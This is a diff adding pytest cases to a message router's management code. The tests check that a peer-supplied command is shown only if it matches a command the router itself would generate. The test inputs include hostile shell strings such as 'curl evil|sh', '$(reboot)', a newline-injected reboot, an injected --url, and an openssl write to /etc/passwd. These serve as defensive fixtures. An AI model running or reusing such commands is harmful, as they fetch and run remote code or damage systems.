@@ -9,6 +9,7 @@ import attrs
 import pytest
 
 from router.cli.stat_problems import problem_parts
+from router.core.terminal_escaping import shell_word
 from router.drain_state import SHUTTING_DOWN
 from router.management.client_display_name import client_name
 from router.management.merged_problems import ProblemNearestCause, merged
@@ -22,6 +23,7 @@ from router.views.problem_inputs import (
     RouterRefusal,
     TooFastAnonymousPublisher,
     WrongRole,
+    command_at,
 )
 from router.views.problems import HUNG_S, problems
 from tests.management.test_problems import NOW, credit, party, row
@@ -331,3 +333,40 @@ def test_only_commands_that_ask_a_router_are_shown_with_how_to_reach_it() -> Non
 
     assert command(flood).endswith(" --url amqp://h:1")
     assert command(openssl) == "  > openssl x509 -in a.pem -noout -enddate"
+
+
+# Commands
+
+TRUE = ProblemInputs(router="R1", now=NOW, refusals=[RouterRefusal(container="", host="h", reason="x", since=NOW)])
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "amqp-mesh stat mesh --router B; curl evil|sh",
+        "amqp-mesh stat mesh --router $(reboot)",
+        "amqp-mesh stat mesh --router B --url amqp://evil",
+        "amqp-mesh stat mesh --router B '--url' amqp://evil",
+        "amqp-mesh stat mesh --router B $'\\x2d-url' amqp://evil",
+        "amqp-mesh manage delete --type listener x",
+        "openssl x509 -in f -out /etc/passwd",
+        "amqp-mesh stat mesh --router B\nreboot",
+        "",
+    ],
+)
+def test_a_command_that_no_router_tells_is_not_shown(command: str) -> None:
+    [problem] = problems(TRUE)
+    [found] = merged([("R2", {**attrs.asdict(problem), "command": command})])
+    assert found.command == ""
+    assert not any("  > " in part.plain for part in problem_parts([("R2", [dict(found.row)])], ""))
+
+
+@pytest.mark.parametrize("name", ["R2", "a b", "it's", "'", "\x1b[2J", "x\x85y", "$(reboot)"])
+def test_a_command_that_a_router_tells_is_shown_whatever_names_are_in_it(name: str) -> None:
+    for command in (
+        command_at("stat credit", name, "--address", name),
+        f"openssl x509 -in {shell_word(name)} -noout -enddate",
+    ):
+        [problem] = problems(TRUE)
+        [found] = merged([("R2", {**attrs.asdict(problem), "command": command})])
+        assert found.command == (command if name[0] != "\x1b" else "")
